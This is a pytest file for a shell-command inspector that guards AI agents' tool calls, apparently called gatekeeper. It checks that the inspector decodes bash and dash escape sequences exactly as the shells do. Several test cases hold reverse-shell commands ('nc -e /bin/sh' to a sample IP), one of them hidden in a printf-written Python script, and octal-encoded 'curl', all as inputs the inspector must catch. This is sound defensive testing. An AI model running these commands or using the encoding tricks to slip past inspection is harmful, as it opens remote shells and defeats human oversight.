"""Backslash escapes decoded as bash decodes them, held to bash itself.

Encoded payloads (``printf '\\143url ...' | sh``, ``$'\\x73sh'``, ``echo -e ... > x.py``) are read
through ``shell_static``'s decoding. Bash has three dialects that differ in the corners: printf's
format (``\\0101`` is ``\\010`` then ``1``; ``\\c`` is text), ``echo -e`` and ``%b`` (octal only
as ``\\0nnn``; ``\\c`` ends all output), and ANSI-C quoting (``\\c?`` is DEL). Random strings of
escapes are printed by bash in one process and decoded here, and must agree.
"""

from __future__ import annotations

import random
import shlex
import shutil
import subprocess

import pytest

from gatekeeper.inspectors import shell_static
from tests.corpus.test_corpus import evaluate

_PIECES = (
    "a", "b", " ", "\\n", "\\t", "\\\\", "\\c", "\\x41", "\\x4", "\\x", "\\101", "\\0101", "\\01",
    "\\1234", "\\u00e9", "\\u", "\\U0001F600", "\\e", "\\E", "\\'", '\\"', "\\?", "%%", "\\a", "\\v",
    "\\z", "\\c?", "\\c1", "\\cA", "\\c\\\\", "\\0", "\\7", "\\8",
)  # fmt: skip
_SEP = "\x02\x03\x02"

pytestmark = pytest.mark.skipif(shutil.which("bash") is None, reason="bash is the reference")


def _strings(seed: int, count: int) -> list[str]:
    rng = random.Random(seed)
    return ["".join(rng.choice(_PIECES) for _ in range(rng.randint(1, 6))) for _ in range(count)]


def _bash_outputs(lines: list[str]) -> list[str]:
    script = "".join(f"{line}; printf '%s' {shlex.quote(_SEP)}\n" for line in lines)
    out = subprocess.run(["bash"], input=script.encode(), capture_output=True, check=True).stdout
    text = out.decode("utf-8", "surrogateescape")  # a lone high byte (\xab) is one character here
    text = "".join(chr(ord(c) - 0xDC00) if 0xDC80 <= ord(c) <= 0xDCFF else c for c in text)
    outputs = text.split(_SEP)
    assert outputs[-1] == ""
    return outputs[:-1]


def test_printf_format_echo_and_b_decode_as_bash() -> None:
    cases: list[tuple[str, list[str], str]] = []  # (program, argv, shell line)
    rng = random.Random(7)
    for text in _strings(seed=20261207, count=1200):
        other = rng.choice(_strings(seed=rng.randint(0, 10**6), count=1))
        kind = rng.choice(["format", "echo", "echo2", "b", "s"])
        if kind == "format" and "%" in text.replace("%%", ""):
            continue
        argv = {
            "format": ["printf", text],
            "echo": ["echo", "-ne", text],
            "echo2": ["echo", "-n", "-e", text, other],
            "b": ["printf", "%b", text, other],
            "s": ["printf", "%s", text, other],
        }[kind]
        cases.append((argv[0], argv[1:], shlex.join(argv)))
    outputs = _bash_outputs([line for _, _, line in cases])
    wrong = []
    for (program, args, line), real in zip(cases, outputs, strict=True):
        ours = shell_static.echo_output(program, args)
        if ours != real:
            wrong.append((line, real, ours))
    assert wrong == []


def test_ansi_c_quoting_decodes_as_bash() -> None:
    bodies = _strings(seed=42, count=1200)  # every quote in the pieces is escaped
    outputs = _bash_outputs([f"printf '%s' $'{body}'" for body in bodies])
    # a NUL ends a shell word; the reading keeps what follows it (it reads more, never less)
    wrong = [
        (b, real, ours)
        for b, real in zip(bodies, outputs, strict=True)
        if real != (ours := shell_static.ansi_c(b)).split("\x00")[0]
    ]
    assert wrong == []


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        # printf's format reads at most three octal digits: \0143 is \014 then "3"
        ("printf '\\0143url'", "\x0c3url"),
        ("printf '\\143url'", "curl"),
        # echo -e and %b read \0nnn; echo -e leaves \143 as it is
        ("echo -ne '\\0143url'", "curl"),
        ("echo -ne '\\143url'", "\\143url"),
        # \c ends echo -e's output, and printf %b's, across arguments
        ("echo -ne 'ls\\c; nc -e /bin/sh 203.0.113.7 4444' more", "ls"),
        ("printf %b 'id\\c' 'nc 203.0.113.7 4444'", "id"),
        # printf's format keeps \c as text
        ("printf 'a\\cb'", "a\\cb"),
    ],
)
def test_corners_where_the_dialects_differ(command: str, shown: str) -> None:
    assert _bash_outputs([command]) == [shown]
    argv = shlex.split(command)
    assert shell_static.echo_output(argv[0], argv[1:]) == shown


def test_a_script_written_by_printf_is_read_decoded() -> None:
    """Real agents write scripts with printf "import os\\n..." > x.py and run them."""
    cmd = (
        "printf \"import os\\nos.makedirs('out', exist_ok=True)\\nwith open('out/a.txt', 'w') as f:\\n"
        '    f.write(\\"x\\\\\\\\ny\\")\\n" > mk.py && python3 mk.py'
    )
    result = evaluate({"tool": "shell.exec", "arguments": {"cmd": cmd}})
    assert result.outcome == "allow", result.explain()
    hidden = "printf \"import os\\nos.system('nc -e /bin/sh 203.0.113.7 4444')\\n\" > mk.py && python3 mk.py"
    assert evaluate({"tool": "shell.exec", "arguments": {"cmd": hidden}}).outcome == "deny"


@pytest.mark.skipif(shutil.which("dash") is None, reason="dash is Debian's /bin/sh, which the runner uses")
def test_text_called_the_same_in_every_shell_is_printed_the_same_by_bash_and_dash() -> None:
    """The runner runs ``/bin/sh -c`` (dash); agents also run ``bash -c``. What a printf or echo
    writes into a file is taken as known only where both print it alike, and as this reading says."""
    rng = random.Random(11)
    cases = []
    for text in _strings(seed=99, count=4000):
        program = rng.choice(["echo", "printf"])
        args = rng.choice([[text], ["-n", text], ["%b", text], ["-e", text], [text, text]])
        if program == "printf" and ("%" in args[0].replace("%%", "") and args[0] != "%b"):
            continue
        cases.append((program, args, shlex.join([program, *args])))
    agreed = [c for c in cases if shell_static.same_in_every_shell(c[0], c[1])]
    assert len(agreed) > 100  # plenty of plain text and portable escapes
    assert len(agreed) < len(cases)  # and plenty refused (\x41, \", echo -e, echo's backslashes)
    in_bash = _bash_outputs([line for _, _, line in agreed])
    script = "".join(f"{line}; printf '%s' {shlex.quote(_SEP)}\n" for _, _, line in agreed)
    out = subprocess.run(["dash"], input=script.encode(), capture_output=True, check=True).stdout
    in_dash = out.decode("utf-8", "surrogateescape").split(_SEP)[:-1]
    wrong = []
    for (program, args, line), b, d in zip(agreed, in_bash, in_dash, strict=True):
        printed = b[:-1] if program == "echo" and "-n" not in args else b  # echo's own newline
        ours = shell_static.echo_output(program, args)  # None: not known, read as words
        if b != d or (ours is not None and ours != printed):
            wrong.append((line, b, d, ours))
    assert wrong == []


@pytest.mark.parametrize("shell", ["bash", "dash"])
def test_an_unquoted_here_document_without_expansions_is_read_as_the_shell_writes_it(shell: str) -> None:
    """``cat <<EOF > x.py`` with backslashes (regular expressions) but no ``$`` or backquote: the
    text is known exactly once its backslashes are read as the shell reads them."""
    from gatekeeper.inspectors.shell import _HEREDOC_ESCAPE_RE, _heredoc_escape

    if shutil.which(shell) is None:
        pytest.skip(f"{shell} is the reference")
    rng = random.Random(3)
    pieces = ("a", "\\", "\\\\", "\\.", "\\n", "\\\n", "x", " ", "'", '"', "\n", "\\'")
    wrong = []
    for _ in range(300):
        body = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 10))).rstrip("\\") + "z"
        real = subprocess.run(
            [shell], input=f"cat <<EOF\n{body}\nEOF\n", capture_output=True, text=True
        ).stdout
        ours = _HEREDOC_ESCAPE_RE.sub(_heredoc_escape, body + "\n")
        if real != ours:
            wrong.append((body, real, ours))
    assert wrong == []
